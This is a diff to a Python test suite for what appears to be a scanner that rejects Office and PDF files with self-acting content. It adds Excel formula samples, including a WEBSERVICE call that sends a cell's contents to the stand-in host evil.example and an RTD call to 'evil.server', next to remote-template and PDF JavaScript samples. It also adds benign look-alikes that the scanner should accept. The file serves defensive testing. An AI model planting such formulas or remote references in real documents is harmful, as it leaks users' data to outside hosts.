@@ -90,6 +90,15 @@ def connected(said: str) -> bytes:
     return with_part(excel_workbook(), "xl/connections.xml", text)
 
 
+def calculated(formula: str) -> bytes:
+    """An Excel file with this in a cell."""
+    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+    text = (
+        f'<worksheet xmlns="{space}"><sheetData><row r="1"><c r="A1"><f>{formula}</f></c></row></sheetData></worksheet>'
+    )
+    return with_part(excel_workbook(), "xl/worksheets/sheet1.xml", text)
+
+
 SCRIPT: Final = b"<</S/JavaScript/JS(x)>>"
 DEFLATED: Final = zlib.compress(b"5 0 " + SCRIPT)
 TEMPLATE: Final = f'Id="r1" TargetMode="External" Type="{OFFICE}/attachedTemplate" Target="https://evil.example/t"'
@@ -120,6 +129,15 @@ TEMPLATE: Final = f'Id="r1" TargetMode="External" Type="{OFFICE}/attachedTemplat
         (with_part(word_document(), "word/a.png", b"\n<x><instrText>DDE a b</instrText></x>"), FileFault.MACROS),
         (relations('Id="r1" Target="a.html" Type="http://purl.oclc.org/x/relationships/aFChunk"'), FileFault.HIDDEN),
         (connected('refreshOnLoad="1"'), FileFault.REMOTE),
+        (calculated('_xlfn.WEBSERVICE("https://evil.example/?"&amp;A2)'), FileFault.REMOTE),
+        (calculated("IF(B1&gt;0,_xlfn._xlws.image <!-- -->(A3),0)"), FileFault.REMOTE),
+        (calculated('RTD("evil.server",,"x")'), FileFault.MACROS),
+        (
+            with_part(
+                excel_workbook(), "xl/a.xml", '<w xmlns="/spreadsheetml/"><definedName>IMAGE(A1)</definedName></w>'
+            ),
+            FileFault.REMOTE,
+        ),
         (written("<!DOCTYPE x>" + field("DDE a b")), FileFault.BROKEN),
         (pdf(b"1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"), FileFault.SCRIPTED),
         (pdf(b"1 0 obj<</OpenAction 2 0 R>>endobj 2 0 obj<</S/URI>>endobj\n"), FileFault.SCRIPTED),
@@ -190,6 +208,10 @@ def test_what_acts_by_itself_is_refused_by_content(tmp_path: Path, content: byte
         written(field(' HYPERLINK "https://www.example.cn/dde"') + field(" PAGE ") + "<w:t>DDE</w:t>"),
         written("<w:r><w:t>instrText DDEAUTO</w:t></w:r>"),
         connected('refreshOnLoad="0"'),
+        calculated('_xlfn.DISPIMG("ID_0A1B",1)'),
+        calculated("SUM(A2:A9)&amp;\"WEBSERVICE(x)\"&amp;'IMAGE (1)'!A1"),
+        written("<w:t>WEBSERVICE(x)</w:t>"),
+        with_part(word_document(), "word/media/a.svg", "<!-- drawn --><!DOCTYPE svg><svg><f>IMAGE(x)</f></svg>"),
         pdf(b"1 0 obj<</OpenAction[3 0 R/FitH 0]>>endobj\n"),
         pdf(b"1 0 obj<</OpenAction 2 0 R>>endobj\n2 0 obj\n[3 0 R /Fit]\nendobj\n"),
         pdf(b"1 0 obj<</OpenAction<</Type/Action/S/GoTo/D[3 0 R/Fit]>>>>endobj\n"),
